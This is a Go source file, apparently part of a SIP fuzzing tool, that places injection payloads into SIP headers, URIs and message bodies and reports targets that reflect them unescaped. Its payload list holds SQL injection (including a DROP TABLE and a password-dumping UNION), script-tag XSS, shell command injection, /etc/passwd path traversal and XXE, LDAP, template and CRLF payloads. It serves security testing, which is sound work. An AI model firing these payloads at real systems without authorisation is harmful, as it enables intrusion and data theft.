package fuzz

import (
	"fmt"
	"strings"
)

// appPayload is an injection payload; "MARK" is replaced by a marker unique
// to the case so that an echo can be traced to it.
type appPayload struct{ class, text string }

func appPayloads() []appPayload {
	return []appPayload{
		{"sql", "' OR '1'='1' -- MARK"},
		{"sql", "MARK'; DROP TABLE users; --"},
		{"sql", "1 UNION SELECT username,password FROM users -- MARK"},
		{"sql", "MARK\" OR \"\"=\""},
		{"html", "<script>alert('MARK')</script>"},
		{"html", "\"><img src=x onerror=alert('MARK')>"},
		{"html", "<iframe src=//MARK.invalid>"},
		{"shell", "MARK;id;"},
		{"shell", "$(id)MARK"},
		{"shell", "`id`MARK"},
		{"shell", "MARK|cat /etc/passwd"},
		{"path", "../../../../../../etc/passwd?MARK"},
		{"ldap", "*)(uid=*))(|(uid=MARK"},
		{"template", "{{7*7}}${7*7}MARK"},
		{"xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;MARK</x>"},
		{"crlf", "MARK\r\nSet-Cookie: sipvet=1"},
	}
}

// appSlot is where a payload goes.
type appSlot struct {
	name   string
	method string
	// render builds the message with the payload in place.
	render func(p Params, id, payload string) []byte
}

func appSlots() []appSlot {
	hdr := func(name string) func(p Params, id, payload string) []byte {
		return func(p Params, id, payload string) []byte {
			return simpleRequest(p, "OPTIONS", id, "", []string{name + ": " + payload})
		}
	}
	return []appSlot{
		{"From display name", "INVITE", func(p Params, id, payload string) []byte {
			s := string(simpleRequest(p, "INVITE", id, "", nil))
			return []byte(strings.Replace(s, "From: <", "From: "+quoted(payload)+" <", 1))
		}},
		{"From user", "REGISTER", func(p Params, id, payload string) []byte {
			return []byte(strings.Replace(string(simpleRequest(p, "REGISTER", id, "", nil)), "From: <sip:sipvet@", "From: <sip:"+uriEscape(payload)+"@", 1))
		}},
		{"Request-URI user", "INVITE", func(p Params, id, payload string) []byte {
			s := string(simpleRequest(p, "INVITE", id, "", nil))
			return []byte(strings.Replace(s, "sip:"+p.user()+"@", "sip:"+uriEscape(payload)+"@", 2))
		}},
		{"Contact display name", "REGISTER", func(p Params, id, payload string) []byte {
			return []byte(strings.Replace(string(simpleRequest(p, "REGISTER", id, "", nil)), "Contact: <", "Contact: "+quoted(payload)+" <", 1))
		}},
		{"User-Agent", "OPTIONS", hdr("User-Agent")},
		{"Subject", "OPTIONS", hdr("Subject")},
		{"Organization", "OPTIONS", hdr("Organization")},
		{"Call-Info", "OPTIONS", hdr("Call-Info")},
		{"MESSAGE body", "MESSAGE", func(p Params, id, payload string) []byte {
			return simpleRequest(p, "MESSAGE", id, payload, nil)
		}},
	}
}

// uriEscape %-escapes what may not appear raw in a SIP URI user part.
func uriEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("-_.!~*'()&=+$,;?/", c) >= 0 {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// application is the "application" source: SQL/HTML/shell and similar
// payloads in display names, user parts, User-Agent, Subject and bodies.
// Each case carries its payload in Echo so that the runner reports a
// target that reflects it unescaped.
type application struct{ p Params }

func newApplication(p Params) *application { return &application{p: p} }

func (a *application) Name() string { return "application" }
func (a *application) Len() int     { return len(appPayloads()) * len(appSlots()) }

func (a *application) Case(n int) Case {
	pl := appPayloads()
	slots := appSlots()
	n %= a.Len()
	pay, slot := pl[n%len(pl)], slots[n/len(pl)]
	mark := fmt.Sprintf("SVE%dX", n)
	text := strings.ReplaceAll(pay.text, "MARK", mark)
	id := fmt.Sprintf("a%x.%d", a.p.Seed, n)
	data := slot.render(a.p, id, text)
	return Case{Source: a.Name(), N: n, Group: "application/" + slot.name + "/" + pay.class, Detail: text, Kind: KindSIP, Data: data, Dialog: -1, Echo: text}
}

// quoted returns s as a SIP quoted-string.
func quoted(s string) string {
	return "\"" + strings.ReplaceAll(strings.ReplaceAll(s, "\\", "\\\\"), "\"", "\\\"") + "\""
}
